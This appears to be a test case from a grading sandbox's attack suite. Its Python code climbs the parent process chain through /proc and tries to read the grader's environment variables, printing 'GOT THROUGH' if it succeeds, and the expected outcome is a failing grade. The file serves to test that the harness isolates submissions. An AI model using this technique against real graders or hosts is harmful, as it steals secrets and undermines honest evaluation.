# attack: steal
# goal: read the environment of the grader, which a process of the same user may do
# expect: WRONG_GRADIENT

import os


def parents():
    pid = os.getppid()
    for _ in range(3):  # the fork server, who watches over it, and the grader
        yield pid
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rpartition(") ")[2].split()[1])


def environment(pid):
    with open(f"/proc/{pid}/environ", "rb") as file:
        return file.read()


try:
    for pid in parents():
        try:
            print("GOT THROUGH", len(environment(pid)))
        except OSError as error:
            print(type(error).__name__)
except OSError as error:
    print(type(error).__name__)


def gradient(x):
    return x * 0
